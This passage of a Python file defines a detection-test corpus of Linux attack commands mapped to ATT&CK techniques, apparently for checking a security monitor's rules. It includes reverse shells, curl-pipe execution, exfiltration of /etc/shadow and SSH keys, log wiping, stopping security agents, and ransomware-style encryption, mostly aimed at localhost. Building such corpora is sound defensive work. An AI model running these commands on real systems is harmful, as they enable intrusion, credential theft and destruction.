        setup="mkdir -p @WORK@/etc && printf '#!/bin/sh\\nexit 0\\n' > @WORK@/etc/rc.local\n",
        source="Atomic T1037.004",
    ),
    Item(
        "persist-ld-so-preload-sh-c",
        "A library path written to an ld.so.preload file",
        f"cp -L /lib/$(uname -m)-linux-gnu/libm.so.6 {T}-pre.so\n"
        f"sh -c 'echo {T}-pre.so > @WORK@/etc/ld.so.preload'\n",
        "persistence",
        "T1574.006",
        setup="mkdir -p @WORK@/etc\n",
        cleanup=f"rm -f {T}-pre.so\n",
        gone=(f"{T}-pre.so",),
        source="Atomic T1574.006 (ld.so.preload, written to a copy, never the real one)",
    ),
    # --- privilege escalation, more -------------------------------------------------
    Item(
        "privesc-sudoers-nopasswd",
        "A NOPASSWD line added to a sudoers drop-in",
        "echo 'de@TAG@ ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/de-corpus-@TAG@\n",
        "privilege-escalation",
        "T1548.003",
        requires=("root", "path:/etc/sudoers.d"),
        cleanup="rm -f /etc/sudoers.d/de-corpus-@TAG@\n",
        gone=("/etc/sudoers.d/de-corpus-@TAG@",),
        source="Atomic T1548.003",
    ),
    Item(
        "privesc-ld-library-path-shm",
        "A program run with LD_LIBRARY_PATH in /dev/shm",
        "mkdir -p /dev/shm/.de-@TAG@-lib\nLD_LIBRARY_PATH=/dev/shm/.de-@TAG@-lib id\n",
        "privilege-escalation",
        "T1574.006",
        cleanup="rm -rf /dev/shm/.de-@TAG@-lib\n",
        gone=("/dev/shm/.de-@TAG@-lib",),
        source="Atomic T1574.006 (LD_LIBRARY_PATH)",
    ),
    Item(
        "privesc-capability-setcap",
        "cap_setuid granted to a python copy with setcap",
        f"cp -L /usr/bin/python3 {T}-py\nchmod 700 {T}-py\nsetcap cap_setuid+ep {T}-py\n"
        f"getcap {T}-py\n",
        "privilege-escalation",
        "T1548",
        requires=("root",),
        needs=("setcap", "getcap"),
        cleanup=f"rm -f {T}-py\n",
        gone=(f"{T}-py",),
        source="GTFOBins python capabilities; Atomic T1548",
    ),
    # --- defense evasion, more ---------------------------------------------------------
    Item(
        "evasion-histfile-devnull",
        "HISTFILE pointed at /dev/null for the session, then work goes on",
        "export HISTFILE=/dev/null HISTSIZE=0\nid\nls /\n",
        "defense-evasion",
        "T1070.003",
        source="Atomic T1070.003 / T1562.003 (HISTFILE)",
    ),
    Item(
        "evasion-history-truncate",
        "Shell history truncated",
        "truncate -s0 ~/.bash_history\n",
        "defense-evasion",
        "T1070.003",
        setup="printf 'ls\\n' > ~/.bash_history\n",
        needs=("truncate",),
        source="Atomic T1070.003 (truncate)",
    ),
    Item(
        "evasion-shred-tool",
        "A dropped tool shredded",
        f"cp /usr/bin/id {T}-tool\nshred -u -z -n 1 {T}-tool\n",
        "defense-evasion",
        "T1070.004",
        cleanup=f"rm -f {T}-tool\n",
        gone=(f"{T}-tool",),
        source="Atomic T1070.004 (shred)",
    ),
    Item(
        "evasion-chattr-immutable",
        "A file made immutable with chattr +i",
        "chattr +i @WORK@/implant\nlsattr @WORK@/implant\n",
        "defense-evasion",
        "T1222.002",
        setup="printf 'x' > @WORK@/implant\n",
        cleanup="chattr -i @WORK@/implant\n",
        needs=("chattr",),
        source="Atomic T1222.002 (chattr)",
    ),
    Item(
        "evasion-kworker-argv",
        "argv[0] disguised as a kernel thread",
        "bash -c 'exec -a \"[kworker/0:2]\" sleep 1'\n",
        "defense-evasion",
        "T1036.004",
        source="Atomic T1036 (process name masquerading)",
    ),
    Item(
        "evasion-sshd-from-dev-shm",
        "A binary named sshd running from /dev/shm",
        "mkdir -p /dev/shm/.de-@TAG@-d\ncp /bin/sleep /dev/shm/.de-@TAG@-d/sshd\n"
        "/dev/shm/.de-@TAG@-d/sshd 1\n",
        "defense-evasion",
        "T1036.005",
        cleanup="rm -rf /dev/shm/.de-@TAG@-d\n",
        gone=("/dev/shm/.de-@TAG@-d",),
        source="Atomic T1036.005",
    ),
    Item(
        "evasion-truncate-btmp-shred",
        "Failed-login records shredded (/var/log/btmp)",
        "[ -f @WORK@/btmp.saved ] && shred -u -z /var/log/btmp\n",
        "defense-evasion",
        "T1070.002",
        requires=("root", "path:/var/log/btmp"),
        setup="cp -p /var/log/btmp @WORK@/btmp.saved\n",
        cleanup="cp -p @WORK@/btmp.saved /var/log/btmp\n",
        source="Atomic T1070.002",
    ),
    Item(
        "evasion-base64-to-tmp-exec",
        "A payload decoded with base64 into /tmp and run",
        f"curl -fsSL @HTTP@/x.b64 | base64 -d > {T}-b.sh\nchmod +x {T}-b.sh\n{T}-b.sh\n",
        "defense-evasion",
        "T1140",
        cleanup=f"rm -f {T}-b.sh\n",
        gone=(f"{T}-b.sh",),
        needs=("curl", "base64"),
        source="Atomic T1140",
    ),
    Item(
        "evasion-security-agent-stop",
        "A security agent's service stopped with systemctl",
        "systemctl stop de-corpus-@TAG@-edr.service\n"
        "systemctl disable de-corpus-@TAG@-edr.service\n",
        "defense-evasion",
        "T1562.001",
        requires=("root", "systemd"),
        setup="printf '[Service]\\nExecStart=/bin/sleep 300\\n"
        "[Install]\\nWantedBy=multi-user.target\\n'"
        " > /etc/systemd/system/de-corpus-@TAG@-edr.service\n"
        "systemctl daemon-reload\nsystemctl start de-corpus-@TAG@-edr.service\n",
        cleanup="systemctl stop de-corpus-@TAG@-edr.service\n"
        "rm -f /etc/systemd/system/de-corpus-@TAG@-edr.service\nsystemctl daemon-reload\n",
        gone=("/etc/systemd/system/de-corpus-@TAG@-edr.service",),
        source="Atomic T1562.001 (systemctl stop); the unit is a dummy made for the test",
    ),
    # --- credential access, more --------------------------------------------------------
    Item(
        "cred-read-private-key",
        "An SSH private key read",
        "cat ~/.ssh/id_rsa\n",
        "credential-access",
        "T1552.004",
        setup="mkdir -p ~/.ssh && ssh-keygen -q -t rsa -b 2048 -N '' -f ~/.ssh/id_rsa\n",
        needs=("ssh-keygen",),
        source="Falco read_ssh_information",
    ),
    Item(
        "cred-history-grep",
        "Shell history searched for secrets",
        "grep -iE 'pass|token|secret' ~/.bash_history\n",
        "credential-access",
        "T1552.003",
        setup="printf 'mysql -u root -pS3cret\\nexport TOKEN=abc\\n' > ~/.bash_history\n",
        source="Atomic T1552.003",
    ),
    Item(
        "cred-proc-mem-dump",
        "A process's memory read through /proc/<pid>/mem with dd",
        "sleep 20 &\n"
        "start=$(head -1 /proc/$!/maps | cut -d- -f1)\n"
        "dd if=/proc/$!/mem of=@WORK@/mem.bin bs=4096 count=1 skip=$((16#$start / 4096))\n"
        "kill $!\n",
        "credential-access",
        "T1003.007",
        requires=("root",),
        source="Atomic T1003.007 (dd of /proc/<pid>/mem)",
    ),
    Item(
        "cred-gcore-dump",
        "A process's memory dumped with gcore",
        "sleep 20 &\ngcore -o @WORK@/core $!\nkill $!\n",
        "credential-access",
        "T1003.007",
        requires=("ptrace",),
        needs=("gcore",),
        timeout_s=5.0,
        source="Atomic T1003.007 (gcore)",
    ),
    Item(
        "cred-aws-credentials-search",
        "A search for cloud credential files",
        "find /root /home -maxdepth 4 -path '*/.aws/credentials' 2>/dev/null\n"
        "find / -maxdepth 3 -name '.git-credentials' 2>/dev/null\n",
        "credential-access",
        "T1552.001",
        source="Falco find_aws_credentials; Atomic T1552.001",
    ),
    Item(
        "cred-metadata-service",
        "Cloud instance metadata credentials requested (redirected to 127.0.0.1)",
        "curl -s -m 3 --connect-to 169.254.169.254:80:127.0.0.1:@PORT@ "
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/\n",
        "credential-access",
        "T1552.005",
        serve="tcp",
        needs=("curl",),
        source="Atomic T1552.005; Falco contact_ec2_instance_metadata_service",
    ),
    Item(
        "cred-private-key-grep",
        "A recursive grep for private key headers",
        "grep -rl 'PRIVATE KEY' ~ /etc/ssl 2>/dev/null\n",
        "credential-access",
        "T1552.004",
        setup="mkdir -p ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519\n",
        source="Falco search_private_keys_or_passwords",
    ),
    Item(
        "cred-shadow-copy",
        "/etc/shadow and /etc/passwd copied for offline cracking",
        f"cp /etc/shadow {T}-sh.txt\ncp /etc/passwd {T}-pw.txt\n",
        "credential-access",
        "T1003.008",
        requires=("root",),
        cleanup=f"rm -f {T}-sh.txt {T}-pw.txt\n",
        gone=(f"{T}-sh.txt", f"{T}-pw.txt"),
        source="Atomic T1003.008",
    ),
    # --- discovery, more --------------------------------------------------------------
    Item(
        "disc-accounts",
        "Account discovery: passwd, uid 0 accounts, logins",
        "cat /etc/passwd\ngetent passwd\nawk -F: '$3 == 0 {print $1}' /etc/passwd\nlastlog\nw\n",
        "discovery",
        "T1087.001",
        source="Atomic T1087.001",
    ),
    Item(
        "disc-groups",
        "Group discovery: id, groups, the group file",
        "id\ngroups\ngetent group\ncat /etc/group\n",
        "discovery",
        "T1069.001",
        source="Atomic T1069.001",
    ),
    Item(
        "disc-suid-search",
        "A search for setuid binaries and capabilities",
        "find /usr/bin /usr/sbin /usr/local -perm -4000 -type f 2>/dev/null\n"
        "getcap -r /usr/bin 2>/dev/null\n",
        "discovery",
        "T1083",
        source="Atomic T1083 / T1548.001 (setuid search)",
    ),
    Item(
        "disc-security-software",
        "A look for security tools among processes and config",
        "ps aux | grep -iE 'falco|osquery|auditd|wazuh|falcon|sysmon|daemoneye'\n"
        "ls /etc | grep -iE 'audit|falco|osquery|wazuh'\n",
        "discovery",
        "T1518.001",
        source="Atomic T1518.001",
    ),
    Item(
        "disc-virtualization",
        "Virtualization and container checks",
        "cat /sys/class/dmi/id/product_name\ngrep -c hypervisor /proc/cpuinfo\n"
        "cat /proc/1/cgroup\nls -la /.dockerenv\n",
        "discovery",
        "T1497.001",
        source="Atomic T1497.001",
    ),
    Item(
        "disc-port-scan",
        "A port scan of 127.0.0.1 with a python one-liner",
        'python3 -c "import socket; print([p for p in range(1, 1025) '
        "if socket.socket().connect_ex(('127.0.0.1', p)) == 0])\"\n",
        "discovery",
        "T1046",
        needs=("python3",),
        source="Atomic T1046 (port scan)",
    ),
    Item(
        "disc-connections",
        "Network connection discovery: sockets, listeners, open files",
        "ss -antp\nnetstat -antp\nlsof -i -n -P\nid\n",
        "discovery",
        "T1049",
        needs=("ss",),
        source="Atomic T1049",
    ),
    Item(
        "disc-container",
        "Container discovery: cgroups, docker socket, docker ps",
        "cat /proc/1/cgroup\nls -la /var/run/docker.sock\ndocker ps\nid\nuname -a\n",
        "discovery",
        "T1613",
        needs=("docker",),
        source="Atomic T1613",
    ),
    Item(
        "disc-remote-systems",
        "Remote system discovery: hosts, neighbours, known_hosts",
        "cat /etc/hosts\nip neigh\ncat ~/.ssh/known_hosts\nhostname -I\n",
        "discovery",
        "T1018",
        source="Atomic T1018",
    ),
    Item(
        "disc-password-policy",
        "Password policy discovery",
        "cat /etc/login.defs\ngrep -E 'PASS_(MAX|MIN)' /etc/login.defs\nchage -l root\nid\n",
        "discovery",
        "T1201",
        needs=("chage",),
        source="Atomic T1201",
    ),
    # --- collection, more ---------------------------------------------------------------
    Item(
        "collect-zip-ssh-password",
        "~/.ssh zipped with a password into /tmp",
        f"zip -qr -P infected {T}.zip ~/.ssh\n",
        "collection",
        "T1560.001",
        setup="mkdir -p ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519\n",
        cleanup=f"rm -f {T}.zip\n",
        gone=(f"{T}.zip",),
        needs=("zip",),
        source="Atomic T1560.001 (zip with password)",
    ),
    Item(
        "collect-gpg-encrypt",
        "Data encrypted with gpg for staging",
        f"gpg --batch --yes --pinentry-mode loopback --passphrase hunter2 -c -o {T}.gpg "
        "/etc/passwd\n",
        "collection",
        "T1560.001",
        # gpg warmed up first (its first run takes seconds); its agent, which leaves
        # the session, stopped after
        setup="mkdir -m 700 -p ~/.gnupg\n"
        "echo warm | gpg --batch --pinentry-mode loopback --passphrase x -c -o /dev/null\n",
        cleanup=f"rm -f {T}.gpg\ngpgconf --kill all\n",
        gone=(f"{T}.gpg",),
        needs=("gpg", "gpgconf"),
        source="Atomic T1560.001 (gpg)",
    ),
    Item(
        "collect-stage-keys",
        "Keys and key stores collected into a staging directory",
        f"mkdir -p {T}-loot\n"
        "find ~ -maxdepth 3 \\( -name 'id_*' -o -name '*.pem' -o -name '*.kdbx' \\) "
        f"-exec cp {{}} {T}-loot/ \\;\n",
        "collection",
        "T1119",
        setup="mkdir -p ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519\n",
        cleanup=f"rm -rf {T}-loot\n",
        gone=(f"{T}-loot",),
        source="Atomic T1119, T1074.001",
    ),
    # --- exfiltration, more -------------------------------------------------------------
    Item(
        "exfil-curl-data-binary",
        "/etc/shadow posted with curl --data-binary",
        "curl -s -X POST --data-binary @/etc/shadow @HTTP@/u\n",
        "exfiltration",
        "T1048.003",
        requires=("root",),
        needs=("curl",),
        source="Atomic T1048.003",
    ),
    Item(
        "exfil-wget-post-file",
        "A file posted with wget --post-file",
        "wget -q -O- --post-file=/etc/passwd @HTTP@/u\n",
        "exfiltration",
        "T1048.003",
        needs=("wget",),
        source="Atomic T1048.003 (wget)",
    ),
    Item(
        "exfil-dev-tcp",
        "A file sent over a raw /dev/tcp connection",
        "bash -c 'cat /etc/passwd > /dev/tcp/127.0.0.1/@PORT@'\n",
        "exfiltration",
        "T1048",
        serve="tcp",
        source="Atomic T1048 (bash /dev/tcp)",
    ),
    Item(
        "exfil-openssl-tls",
        "A file sent over TLS with openssl s_client",
        "openssl s_client -quiet -connect 127.0.0.1:@PORT@ < /etc/passwd\n",
        "exfiltration",
        "T1048.002",
        serve="tls",
        needs=("openssl",),
        source="Atomic T1048.002 (openssl)",
    ),
    Item(
        "exfil-tar-curl-upload",
        "An archive streamed to a web server with curl -T",
        "tar czf - ~/.ssh 2>/dev/null | curl -s -T - @HTTP@/up\n",
        "exfiltration",
        "T1048.003",
        setup="mkdir -p ~/.ssh && ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519\n",
        needs=("curl",),
        source="Atomic T1048.003, T1560.001",
    ),
    Item(
        "exfil-python-post",
        "A file posted with python urllib",
        '@PY@ -c "import urllib.request as u; '
        "u.urlopen('@HTTP@/u', data=open('/etc/passwd', 'rb').read())\"\n",
        "exfiltration",
        "T1041",
        source="Atomic T1041",
    ),
    # --- impact, more -------------------------------------------------------------------
    Item(
        "impact-miner-renamed",
        "A miner under an innocuous name, recognised by its pool argument",
        "cp /usr/bin/perl @WORK@/kswapd1\n"
        "@WORK@/kswapd1 -e 'sleep 1' -- --url stratum+tcp://127.0.0.1:3333 "
        "--user x --threads 2 --cpu-priority 0\n",
        "impact",
        "T1496",
        needs=("perl",),
        source="Falco detect_crypto_miners_using_the_stratum_protocol",
    ),
    Item(
        "impact-encrypt-files",
        "Files encrypted with openssl and the originals removed (ransomware shape)",
        "for f in @WORK@/docs/*; do\n"
        '  openssl enc -aes-256-cbc -pbkdf2 -salt -in "$f" -out "$f.enc" -k hunter2\n'
        '  rm -f "$f"\n'
        "done\n",
        "impact",
        "T1486",
        setup="mkdir -p @WORK@/docs && for i in 1 2 3; do seq 1 100 > @WORK@/docs/r$i.txt; done\n",
        needs=("openssl",),
        source="Atomic T1486 (openssl)",
    ),
    Item(
        "impact-lock-account",
        "An account locked and its shell removed",
        "passwd -l de@TAG@l\nusermod -s /usr/sbin/nologin de@TAG@l\n",
        "impact",
        "T1531",
        requires=("root",),
        needs=("useradd", "userdel", "passwd", "usermod"),
        setup="useradd -M -s /bin/bash de@TAG@l\n",
        cleanup=_userdel("de@TAG@l"),
        gone=("user:de@TAG@l",),
        source="Atomic T1531",
    ),
    Item(
        "impact-wipe-data",
        "Data overwritten with dd and shred",
        "dd if=/dev/zero of=@WORK@/data/db.img bs=64k count=16 conv=notrunc\n"
        "shred -n 1 -u @WORK@/data/backup.tar\n",
        "impact",
        "T1485",
        setup="mkdir -p @WORK@/data && head -c 1048576 /dev/urandom > @WORK@/data/db.img && "
        "head -c 65536 /dev/urandom > @WORK@/data/backup.tar\n",
        source="Atomic T1485 (dd, shred)",
    ),
    Item(
        "disc-recon-one-liner",
        "Recon through a web shell: one sh -c running id, uname, ss, ps, passwd",
        "sh -c 'id; uname -a; ss -antp; ps aux; cat /etc/passwd'\n",
        "discovery",
        "T1082",
        source="Atomic T1082, T1049, T1057, T1087.001 (as a web shell runs them)",
    ),
    Item(
        "evasion-kill-security-agent",
        "A security agent's process killed by name (a dummy auditd of this session)",
        "cp /bin/sleep @WORK@/auditd\n@WORK@/auditd 30 &\nsleep 0.3\n"
        # -s 0: only processes of this session, never another auditd of the machine
        "pkill -9 -s 0 -x auditd\n",
        "defense-evasion",
        "T1562.001",
        needs=("pkill",),
        source="Atomic T1562.001 (kill the agent); Atomic T1562.012",
    ),
    Item(
        "evasion-service-stop-agent",
        "A security agent stopped through its init script with service",
        "cp /bin/sleep @WORK@/edr-agent\n@WORK@/edr-agent 30 &\necho $! > @WORK@/edr.pid\n"
        "service de-corpus-@TAG@-edr stop\nwait\n",
        "defense-evasion",
        "T1562.001",
        requires=("root", "path:/etc/init.d"),
        needs=("service",),
        # a dummy init script whose stop kills the dummy agent this item started
        setup="printf '#!/bin/sh\\ncase \"$1\" in stop) kill $(cat @WORK@/edr.pid) ;; esac\\n'"
        " > /etc/init.d/de-corpus-@TAG@-edr\nchmod 755 /etc/init.d/de-corpus-@TAG@-edr\n",
        cleanup="rm -f /etc/init.d/de-corpus-@TAG@-edr\n",
        gone=("/etc/init.d/de-corpus-@TAG@-edr",),
        source="Atomic T1562.001 (stop a security service; SysV hosts and containers)",
    ),
    # --- more shapes of the same techniques (so rules are written for techniques) -----
    Item(
        "exec-curl-pipe-python",
        "A python payload downloaded with curl piped into python3",
        "curl -fsSL @HTTP@/x.py | python3\n",
        "execution",
        "T1059.006",
        needs=("curl", "python3"),
        source="Atomic T1059.006 (pipe-to-interpreter)",
    ),
    Item(
        "c2-python-popen-socket",
        "python reverse shell: create_connection and Popen with the socket as stdio",
        "python3 -c 'import socket,subprocess; "
        's=socket.create_connection(("127.0.0.1",@PORT@)); '
        'subprocess.Popen(["/bin/bash","-i"],stdin=s,stdout=s,stderr=s).wait()\'\n',
        "command-and-control",
        "T1059.006",
        serve="tcp",
        needs=("python3",),
        source="revshells.com python3 variant",
    ),
    Item(
        "c2-perl-io-socket",
        "perl IO::Socket::INET reverse shell running each line it reads",
        'perl -MIO::Socket::INET -e \'$c=IO::Socket::INET->new(PeerAddr,"127.0.0.1:@PORT@"); '
        "STDIN->fdopen($c,r); $~->fdopen($c,w); system $_ while <>;'\n",
        "command-and-control",
        "T1059.004",
        serve="tcp",
        needs=("perl",),
        source="GTFOBins perl reverse shell (IO::Socket)",
    ),
    Item(
        "c2-bash-exec-redirect",
        "bash exec'ing an interactive bash wired to /dev/tcp",
        "bash -c 'exec bash -i &>/dev/tcp/127.0.0.1/@PORT@ <&1'\n",
        "command-and-control",
        "T1059.004",
        serve="tcp",
        source="revshells.com bash variant",
    ),
    Item(
        "persist-systemd-timer",
        "A systemd timer and service written and the timer enabled",
        "cp @WORK@/u.service /etc/systemd/system/de-corpus-@TAG@t.service\n"
        "cp @WORK@/u.timer /etc/systemd/system/de-corpus-@TAG@t.timer\n"
        "systemctl enable de-corpus-@TAG@t.timer\n",
        "persistence",
        "T1053.006",
        requires=("root",),
        needs=("systemctl",),
        setup="printf '[Service]\\nExecStart=/bin/true\\n' > @WORK@/u.service\n"
        "printf '[Timer]\\nOnCalendar=*-02-31\\n[Install]\\nWantedBy=timers.target\\n'"
        " > @WORK@/u.timer\n",
        cleanup="systemctl disable de-corpus-@TAG@t.timer\n"
        "rm -f /etc/systemd/system/de-corpus-@TAG@t.service "
        "/etc/systemd/system/de-corpus-@TAG@t.timer\n",
        gone=(
            "/etc/systemd/system/de-corpus-@TAG@t.service",
            "/etc/systemd/system/de-corpus-@TAG@t.timer",
            "/etc/systemd/system/timers.target.wants/de-corpus-@TAG@t.timer",
        ),
        source="Atomic T1053.006",
    ),
    Item(
        "persist-authorized-keys-cp",
        "authorized_keys replaced with the attacker's file (cp)",
        "mkdir -p ~/.ssh\ncp @WORK@/key.pub ~/.ssh/authorized_keys\n"
        "chmod 600 ~/.ssh/authorized_keys\n",
        "persistence",
        "T1098.004",
        setup=f"echo '{ATTACKER_KEY}' > @WORK@/key.pub\n",
        source="Atomic T1098.004",
    ),
]
